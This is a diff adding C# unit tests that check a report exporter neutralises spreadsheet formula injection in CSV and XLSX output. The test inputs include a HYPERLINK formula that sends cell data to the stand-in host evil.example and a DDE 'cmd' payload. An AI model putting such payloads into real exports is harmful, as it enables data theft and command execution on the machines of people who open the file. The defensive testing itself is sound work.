@@ -1,11 +1,13 @@
 using System.Text;
 using System.Text.Json;
+using DocumentFormat.OpenXml.Packaging;
 using Microsoft.AspNetCore.Http;
 using Microsoft.Extensions.Primitives;
 using ValidationGateway.Core.Compliance;
 using ValidationGateway.Core.Institutions;
 using ValidationGateway.Server.Admin;
 using ValidationGateway.Server.Reports;
+using Xlsx = DocumentFormat.OpenXml.Spreadsheet;
 
 namespace ValidationGateway.Server.Tests.Admin;
 
@@ -132,6 +134,39 @@ public sealed class AdminRenderingTests
         Assert.Equal("", lines[^1]);
     }
 
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")", "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"点击\"\")\"")]
+    [InlineData("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0")]
+    [InlineData("+86 24 1234", "'+86 24 1234")]
+    [InlineData("-2+3", "'-2+3")]
+    [InlineData("@SUM(1+1)", "'@SUM(1+1)")]
+    [InlineData("\t=1+1", "'\t=1+1")]
+    [InlineData("\r=1+1", "\"'\r=1+1\"")]
+    [InlineData("\0=1+1", "'\0=1+1")]
+    [InlineData("第一医院=1+1", "第一医院=1+1")]
+    public void Csv_TextStartingWithAFormulaCharacter_IsWrittenAsTextWithALeadingQuote(string name, string expected)
+    {
+        var bytes = DailyReportExporter.Export([Report("H21010200123", name, 3, lines: 4, reject: 0)], Day, ReportFormat.Csv);
+        var row = Encoding.UTF8.GetString(bytes[3..]).Split("\r\n")[1];
+        Assert.StartsWith("2026-11-22,H21010200123," + expected + ",hospital,3,210102,", row, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Csv_FormulaInTheInstitutionCode_IsNeutralisedToo()
+    {
+        var bytes = DailyReportExporter.Export([Report("=1+1", "x", 3, lines: 0, reject: 0)], Day, ReportFormat.Csv);
+        Assert.StartsWith("2026-11-22,'=1+1,x,hospital,", Encoding.UTF8.GetString(bytes[3..]).Split("\r\n")[1], StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Csv_NegativeAmounts_StayNumbersWithoutAQuote()
+    {
+        var report = Report("H21010200123", "-退费医院", 3, lines: 2, reject: 1, rejected: -3.5m);
+        report = report with { Stats = report.Stats with { AmountTotal = -12.5m } };
+        var row = Encoding.UTF8.GetString(DailyReportExporter.Export([report], Day, ReportFormat.Csv)[3..]).Split("\r\n")[1];
+        Assert.Equal("2026-11-22,H21010200123,'-退费医院,hospital,3,210102,2,2,1,0.5000,1,0,1,0.5000,-12.50,-3.50,0.50,0.7500,0.1250", row);
+    }
+
     [Fact]
     public void Json_NumbersAreNumbersAndChineseIsReadable()
     {
@@ -155,5 +190,28 @@ public sealed class AdminRenderingTests
         Assert.Equal(("中心医院, 和平区", false), sheet[1][2]);
         Assert.Equal(("40.50", true), sheet[1][15]);
         Assert.Equal(("0.5000", true), sheet[1][13]);
+    }
+
+    [Fact]
+    public void Xlsx_TextStartingWithAFormula_IsAQuotePrefixedInlineStringNeverAFormula()
+    {
+        const string Name = "=HYPERLINK(\"http://evil.example/\",\"点击\")";
+        var report = Report("H21010200123", Name, 3, lines: 2, reject: 1, rejected: -3.5m);
+        var bytes = DailyReportExporter.Export([report], Day, ReportFormat.Xlsx);
+        using var stream = new MemoryStream(bytes);
+        using var document = SpreadsheetDocument.Open(stream, false);
+        var workbook = document.WorkbookPart!;
+        var sheet = workbook.WorksheetParts.Single().Worksheet;
+        Assert.Empty(sheet.Descendants<Xlsx.CellFormula>());
+        var cells = sheet.Descendants<Xlsx.Row>().ElementAt(1).Elements<Xlsx.Cell>().ToArray();
+        var name = cells[2];
+        Assert.Equal(Xlsx.CellValues.InlineString, name.DataType!.Value);
+        Assert.Equal(Name, name.InlineString!.InnerText);
+        var formats = workbook.WorkbookStylesPart!.Stylesheet.CellFormats!.Elements<Xlsx.CellFormat>().ToArray();
+        Assert.True(formats[(int)name.StyleIndex!.Value].QuotePrefix?.Value);
+        var rejected = cells[15];
+        Assert.Equal("-3.50", rejected.CellValue!.Text);
+        Assert.Equal(Xlsx.CellValues.Number, rejected.DataType!.Value);
+        Assert.NotEqual(true, formats[(int)(rejected.StyleIndex?.Value ?? 0)].QuotePrefix?.Value);
     }
 }
